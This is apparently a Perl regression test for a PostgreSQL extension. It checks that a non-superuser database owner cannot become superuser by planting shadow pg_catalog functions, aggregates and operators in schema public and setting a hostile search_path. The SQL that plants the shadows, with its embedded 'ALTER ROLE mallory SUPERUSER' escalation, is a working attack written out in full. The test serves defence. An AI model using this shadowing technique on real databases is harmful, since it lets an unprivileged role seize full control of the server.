# Privilege escalation through search_path (issue 12, item 1).
#
# The owner of the database (mallory, not a superuser, owner of schema public
# in PostgreSQL 15) plants, in public, a shadow of every pg_catalog function
# and operator the extension's SQL uses: identical signatures (they win when
# public comes first in search_path, which mallory sets for the whole
# database with ALTER DATABASE) and better-matching ones (date_bin(text, ...),
# concat_ws(text, text, text), format(text, text), *(integer, double
# precision), ... win even with pg_catalog first).  Each shadow, when it runs
# as a superuser, logs "SHADOW-RAN" and makes mallory a superuser.  Then:
#  - the launcher's maintenance pass (maintain()), an ingest worker's flushes
#    (statement and COPY paths), the poll worker's feed insert and the
#    predictor's scoring all run;
#  - a superuser calls maintain(), features(), candles(), refresh_candles(),
#    trade_partitions(), add_source(), add_feed(), deploy() and retention()
#    with the database's hostile search_path;
#  - the extension is also created in a second database where the shadows
#    exist before CREATE EXTENSION;
# and no shadow may ever run as superuser, mallory stays a plain role.
# Last, the catalog check that keeps it so: every SQL and PL/pgSQL function
# of the extension pins search_path or has a BEGIN ATOMIC body.
use strict;
use warnings;
use PostgreSQL::Test::Cluster;
use PostgreSQL::Test::Utils;
use Test::More;
use IngestTest;
use NewsTest;

my $shared = $ENV{TRIGGERSTOCK_SHARED} or die "TRIGGERSTOCK_SHARED is not set";
my $capture = "$shared/data/websocket/binance/spot_btcusdt_trade_2024-08-08T2354Z_0005Z.jsonl";
my $state = PostgreSQL::Test::Utils::tempdir;
my ($base) = start_news_server($state);

my $node = PostgreSQL::Test::Cluster->new('search_path');
$node->init;
$node->append_conf('postgresql.conf', qq{
shared_preload_libraries = 'triggerstock'
triggerstock.database = 'market'
triggerstock.maintenance_naptime = 1
triggerstock.allowed_hosts = '127.0.0.1'
triggerstock.ingest_max_past = -1
max_worker_processes = 16
});
$node->start;

# Every statement of the test itself runs with pg_catalog first.
sub sq
{
	my ($db, $sql) = @_;
	return $node->safe_psql($db, "SET search_path = pg_catalog, public; $sql");
}

$node->safe_psql('postgres', q{
	CREATE ROLE mallory LOGIN;
	CREATE DATABASE market OWNER mallory;
	CREATE DATABASE market2 OWNER mallory;
});
sq('market', 'CREATE EXTENSION triggerstock SCHEMA public');

# The shadows.  shadow_hit() records a run as superuser (a WARNING in the
# server log survives any rollback) and escalates as the real attack did.
my $shadows = q{
CREATE FUNCTION public.shadow_hit(f text) RETURNS void
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN
    -- once per session: a shadow may run for every row
    IF (SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname = current_user)
       AND pg_catalog.current_setting('shadow.ran', true) IS DISTINCT FROM f THEN
        PERFORM pg_catalog.set_config('shadow.ran', f, false);
        RAISE WARNING 'SHADOW-RAN % as superuser %', f, current_user;
        BEGIN
            SET LOCAL lock_timeout = '100ms';
            EXECUTE 'ALTER ROLE mallory SUPERUSER';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END IF;
END
$$;

-- identical signatures of every plain function of these names
DO $do$
DECLARE
    p record;
    args text;
    call text;
    body text;
BEGIN
    FOR p IN
        SELECT f.proname, f.oid, f.proretset, f.pronargs,
               pg_catalog.format_type(f.prorettype, NULL) AS ret,
               pg_catalog.oidvectortypes(f.proargtypes) AS types
        FROM pg_catalog.pg_proc f
        WHERE f.pronamespace = 'pg_catalog'::pg_catalog.regnamespace AND f.prokind = 'f'
          AND f.provariadic = 0
          AND f.proname IN ('date_bin', 'now', 'make_interval', 'unnest', 'lower', 'cardinality',
                            'generate_subscripts', 'jsonb_typeof', 'jsonb_build_object', 'to_char',
                            'isfinite', 'current_setting', 'pg_advisory_xact_lock', 'hashtext',
                            'pg_get_expr', 'btrim', 'length', 'sqrt', 'sin', 'cos', 'pi', 'ln',
                            'date_part', 'to_jsonb', 'jsonb_array_elements_text', 'encode', 'sha256',
                            'round', 'clock_timestamp', 'pg_try_advisory_xact_lock', 'substring',
                            'nullif', 'textcat', 'format_type', 'concat_ws', 'format')
          AND NOT EXISTS (SELECT 1 FROM pg_catalog.unnest(f.proargtypes::oid[] || f.prorettype) t
                          WHERE t IN ('internal'::pg_catalog.regtype, 'cstring'::pg_catalog.regtype,
                                      '"any"'::pg_catalog.regtype, 'anycompatible'::pg_catalog.regtype,
                                      'anycompatiblearray'::pg_catalog.regtype, 'record'::pg_catalog.regtype))
    LOOP
        SELECT pg_catalog.string_agg('$' || i, ', ' ORDER BY i) INTO call
        FROM pg_catalog.generate_series(1, p.pronargs) i;
        call := pg_catalog.format('pg_catalog.%I(%s)', p.proname, coalesce(call, ''));
        body := CASE WHEN p.proretset THEN 'RETURN QUERY SELECT * FROM ' || call || ';'
                     WHEN p.ret = 'void' THEN 'PERFORM ' || call || ';'
                     ELSE 'RETURN ' || call || ';' END;
        EXECUTE pg_catalog.format(
            'CREATE FUNCTION public.%I(%s) RETURNS %s%s LANGUAGE plpgsql SET search_path = pg_catalog AS %L',
            p.proname, p.types, CASE WHEN p.proretset THEN 'SETOF ' ELSE '' END, p.ret,
            pg_catalog.format('BEGIN PERFORM public.shadow_hit(%L); %s END', p.proname, body));
    END LOOP;
END
$do$;

-- better-matching signatures (they win even with pg_catalog first)
CREATE FUNCTION public.date_bin(text, timestamptz, timestamptz) RETURNS timestamptz
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('date_bin(text)'); RETURN pg_catalog.date_bin($1::interval, $2, $3); END $$;
CREATE FUNCTION public.concat_ws(text, text, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('concat_ws(text, text, text)'); RETURN pg_catalog.concat_ws($1, $2, $3); END $$;
CREATE FUNCTION public.format(text, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('format(text, text)'); RETURN pg_catalog.format($1, $2); END $$;
CREATE FUNCTION public.format(text, regclass, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('format(text, regclass, text)'); RETURN pg_catalog.format($1, $2, $3); END $$;
CREATE FUNCTION public.format(text, text, regclass) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('format(text, text, regclass)'); RETURN pg_catalog.format($1, $2, $3); END $$;
CREATE FUNCTION public.format(text, text, timestamptz, timestamptz) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('format(text, text, timestamptz, timestamptz)'); RETURN pg_catalog.format($1, $2, $3, $4); END $$;

-- aggregates of identical signatures
CREATE FUNCTION public.shadow_count(bigint) RETURNS bigint
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('count(*)'); RETURN $1 + 1; END $$;
CREATE AGGREGATE public.count(*) (SFUNC = public.shadow_count, STYPE = bigint, INITCOND = '0');
CREATE FUNCTION public.shadow_max_ts(timestamptz, timestamptz) RETURNS timestamptz
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('max(timestamptz)'); RETURN pg_catalog.greatest($1, $2); END $$;
CREATE AGGREGATE public.max(timestamptz) (SFUNC = public.shadow_max_ts, STYPE = timestamptz);
CREATE FUNCTION public.shadow_sum_i8(numeric, bigint) RETURNS numeric
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('sum(bigint)'); RETURN coalesce($1, 0) + $2; END $$;
CREATE AGGREGATE public.sum(bigint) (SFUNC = public.shadow_sum_i8, STYPE = numeric);
CREATE FUNCTION public.shadow_bit_or(integer, integer) RETURNS integer
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('bit_or(integer)'); RETURN coalesce($1, 0) | $2; END $$;
CREATE AGGREGATE public.bit_or(integer) (SFUNC = public.shadow_bit_or, STYPE = integer);
CREATE FUNCTION public.shadow_avg_f8(double precision[], double precision) RETURNS double precision[]
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('avg(double precision)'); RETURN ARRAY[$1[1] + $2, $1[2] + 1]; END $$;
CREATE FUNCTION public.shadow_avg_final(double precision[]) RETURNS double precision
LANGUAGE sql AS $$ SELECT $1[1] / nullif($1[2], 0) $$;
CREATE AGGREGATE public.avg(double precision) (SFUNC = public.shadow_avg_f8, STYPE = double precision[],
    FINALFUNC = public.shadow_avg_final, INITCOND = '{0,0}');
CREATE FUNCTION public.shadow_array_agg(anyarray, anynonarray) RETURNS anyarray
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('array_agg(anynonarray)'); RETURN pg_catalog.array_append($1, $2); END $$;
CREATE AGGREGATE public.array_agg(anynonarray) (SFUNC = public.shadow_array_agg, STYPE = anyarray,
    INITCOND = '{}');

-- operators: better-matching ones, and identical ones of the common kinds
CREATE FUNCTION public.shadow_mul_i_f(integer, double precision) RETURNS double precision
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('*(integer, double precision)'); RETURN $1::double precision * $2; END $$;
CREATE OPERATOR public.* (LEFTARG = integer, RIGHTARG = double precision, FUNCTION = public.shadow_mul_i_f);
CREATE FUNCTION public.shadow_div_f_i(double precision, integer) RETURNS double precision
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('/(double precision, integer)'); RETURN $1 / $2::double precision; END $$;
CREATE OPERATOR public./ (LEFTARG = double precision, RIGHTARG = integer, FUNCTION = public.shadow_div_f_i);
CREATE FUNCTION public.shadow_eq_text(text, text) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('=(text, text)'); RETURN $1 = $2; END $$;
CREATE OPERATOR public.= (LEFTARG = text, RIGHTARG = text, FUNCTION = public.shadow_eq_text);
CREATE FUNCTION public.shadow_le_ts(timestamptz, timestamptz) RETURNS boolean
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('<=(timestamptz, timestamptz)'); RETURN $1 <= $2; END $$;
CREATE OPERATOR public.<= (LEFTARG = timestamptz, RIGHTARG = timestamptz, FUNCTION = public.shadow_le_ts);
CREATE FUNCTION public.shadow_plus_ts(timestamptz, interval) RETURNS timestamptz
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('+(timestamptz, interval)'); RETURN $1 + $2; END $$;
CREATE OPERATOR public.+ (LEFTARG = timestamptz, RIGHTARG = interval, FUNCTION = public.shadow_plus_ts);
CREATE FUNCTION public.shadow_mod_n_i(numeric, integer) RETURNS numeric
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('%(numeric, integer)'); RETURN $1 % $2::numeric; END $$;
CREATE OPERATOR public.% (LEFTARG = numeric, RIGHTARG = integer, FUNCTION = public.shadow_mod_n_i);
CREATE FUNCTION public.shadow_cat(text, text) RETURNS text
LANGUAGE plpgsql SET search_path = pg_catalog AS $$
BEGIN PERFORM public.shadow_hit('||(text, text)'); RETURN $1 || $2; END $$;
CREATE OPERATOR public.|| (LEFTARG = text, RIGHTARG = text, FUNCTION = public.shadow_cat);

-- public first for every session and worker of the database
ALTER DATABASE DBNAME SET search_path = public, pg_catalog, pg_temp;
};
for my $db ('market', 'market2')
{
	(my $sql = $shadows) =~ s/DBNAME/$db/;
	$node->safe_psql($db, "SET ROLE mallory; $sql");
}
my $nshadows = sq('market', q{SELECT count(*) FROM pg_proc WHERE pronamespace = 'public'::regnamespace
	AND proname NOT LIKE 'shadow%' AND NOT EXISTS (SELECT 1 FROM pg_depend d WHERE d.objid = pg_proc.oid AND d.deptype = 'e')});
note("mallory planted $nshadows shadow functions, 6 shadow aggregates and 7 shadow operators in public");
cmp_ok($nshadows, '>', 60, 'shadows of every pg_catalog name the extension uses are in place');
my ($rc, $out, $err) = $node->psql('market', q{SELECT date_bin('1 day', now(), TIMESTAMPTZ 'epoch')});
like($err, qr/SHADOW-RAN date_bin\(text\) as superuser/, 'a shadow does run as superuser from an unqualified call');
$node->safe_psql('postgres', 'ALTER ROLE mallory NOSUPERUSER');
my $log_start = -s $node->logfile;

# --- the workers ------------------------------------------------------------
# launcher maintenance: maintain() every second
my $x = start_exchange(exchange => 'binance', replay => $capture, rate => 20000);
sq('market', qq{SELECT add_source('bin', 'binance', 'ws://127.0.0.1:$x->{port}', ARRAY['BTCUSDT'])});
sq('market', qq{SELECT add_feed('$base/feed/coindesk_2025-12-12', '1 second')});
ok($node->poll_query_until('market', q{SELECT pg_catalog.count(*) OPERATOR(pg_catalog.=) 15923 FROM triggerstock.trades}),
	'ingest: the worker stored every trade of the capture');
ok($node->poll_query_until('market', q{SELECT pg_catalog.count(*) OPERATOR(pg_catalog.=) 25 FROM triggerstock.news}),
	'poll: the worker stored every item of the feed');
stop_exchange($x);

# predictor: a model trained (by a superuser, under the hostile search_path)
# on 600 synthetic 1-minute candles up to two minutes ago, hence deployed
sq('market', q{
	INSERT INTO triggerstock.candles (symbol, width, bucket, open, high, low, close, volume, vwap, trades,
	                                  open_time, close_time)
	SELECT 'SP', interval '1 minute', b, c, c + 1, c - 1, c, 10 + i % 7, NULL, 5, b, b + interval '59 seconds'
	FROM generate_series(1, 600) i,
	     LATERAL (SELECT date_bin(interval '1 minute', now(), timestamptz 'epoch') - (602 - i) * interval '1 minute' AS b,
	                     100 + float8 '5' * sin(i / 7.0) + ((i * 7919) % 13) / 4.0 AS c) x;
});
($rc, $out, $err) = $node->psql('market', q{SELECT train('SP') IS NOT NULL});
is($out, 't', 'a superuser trained a model under the hostile search_path');
unlike($err, qr/SHADOW-RAN/, 'superuser, hostile search_path: train()');
ok($node->poll_query_until('market', q{SELECT pg_catalog.count(*) OPERATOR(pg_catalog.>) 0 FROM triggerstock.predictions
	WHERE symbol OPERATOR(pg_catalog.=) 'SP'}),
	'predictor: the worker scored the deployed symbol');
ok($node->poll_query_until('market', q{SELECT pg_catalog.count(*) OPERATOR(pg_catalog.>=) 8 FROM public.trade_partitions()
	WHERE range_to OPERATOR(pg_catalog.>) pg_catalog.now()}),
	'launcher: maintenance created the partitions ahead');

# --- a superuser calls the extension with the database's hostile path -------
my @calls = (
	'SELECT maintain()',
	q{SELECT pg_catalog.count(*) FROM features('SP')},
	q{SELECT pg_catalog.count(*) FROM features('SP', '5 minutes')},
	q{SELECT pg_catalog.count(*) FROM candles('5 minutes')},
	q{SELECT pg_catalog.count(*) FROM triggerstock.candles_1h},
	q{SELECT refresh_candles('-infinity')},
	'SELECT pg_catalog.count(*) FROM trade_partitions()',
	q{SELECT add_source('x', 'coinbase', 'ws://127.0.0.1:1', ARRAY['BTC-USD'], enabled => false)},
	q{SELECT add_feed('http://127.0.0.1:1/x', '1 hour')},
	q{SELECT add_quote_source('http://127.0.0.1:1/q', 'Q', '{}', '1 hour')},
	q{SELECT deploy('SP', 'most_recent')},
	q{SELECT pg_catalog.count(*) FROM retention('100 years')},
	q{SELECT pg_catalog.count(*) FROM create_partitions('2030-01-01', '2030-01-03')},
	q{SELECT pg_catalog.count(*) FROM feature_drift('SP', 60)},
	q{SELECT train_from_query('SPQ', 'SELECT bucket, close, rsi_14 FROM features(''SP'')') IS NOT NULL},
	q{SELECT candle_width('5 minutes')},
	q{SELECT predict('SP')},
	q{SELECT predict_explain('SP') IS NOT NULL},
	q{SELECT match_symbols('bitcoin and ether')},
);
for my $sql (@calls)
{
	my ($rc, $out, $err) = $node->psql('market', $sql);
	unlike($err, qr/SHADOW-RAN/, "superuser, hostile search_path: $sql");
}

# --- CREATE EXTENSION where the shadows already exist ------------------------
($rc, $out, $err) = $node->psql('market2', 'CREATE EXTENSION triggerstock');
is($rc, 0, 'market2: CREATE EXTENSION works under the hostile search_path');
unlike($err, qr/SHADOW-RAN/, 'market2: no shadow ran during CREATE EXTENSION');
($rc, $out, $err) = $node->psql('market2', q{
	INSERT INTO triggerstock.candles (symbol, width, bucket, open, high, low, close, volume, vwap, trades,
	                                  open_time, close_time)
	VALUES ('SP', '1 minute', '2024-01-01', 1, 2, 0.5, 1.5, 10, 1.2, 3, '2024-01-01', '2024-01-01 00:00:59');
	SELECT pg_catalog.count(*) FROM features('SP'); SELECT pg_catalog.count(*) FROM candles('1 hour');
	SELECT maintain();});
unlike($err, qr/SHADOW-RAN/, 'market2: features(), candles() and maintain() bound no shadow');

# --- verdict -------------------------------------------------------------------
my $log = slurp_file($node->logfile, $log_start);
my @ran = $log =~ /(SHADOW-RAN [^\n]*)/g;
is(scalar(@ran), 0, 'no shadow ever ran as superuser' . (@ran ? ": @ran[0 .. ($#ran < 4 ? $#ran : 4)]" : ''));
is($node->safe_psql('postgres', q{SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'}), 'f',
	'mallory is still not a superuser');

# --- the catalog check: a new unpinned SQL or PL/pgSQL function fails here ----
for my $db ('market', 'market2')
{
	is(sq($db, q{
		SELECT coalesce(string_agg(p.oid::regprocedure::text, ', ' ORDER BY 1), '')
		FROM pg_proc p
		JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND d.objid = p.oid AND d.deptype = 'e'
		JOIN pg_extension e ON e.oid = d.refobjid AND e.extname = 'triggerstock'
		JOIN pg_language l ON l.oid = p.prolang
		WHERE l.lanname IN ('sql', 'plpgsql')
		  AND p.prosqlbody IS NULL
		  AND NOT coalesce(p.proconfig @> ARRAY['search_path=pg_catalog, pg_temp'], false)}),
		'', "$db: every SQL and PL/pgSQL function pins search_path or is BEGIN ATOMIC");
}

$node->stop;
done_testing();
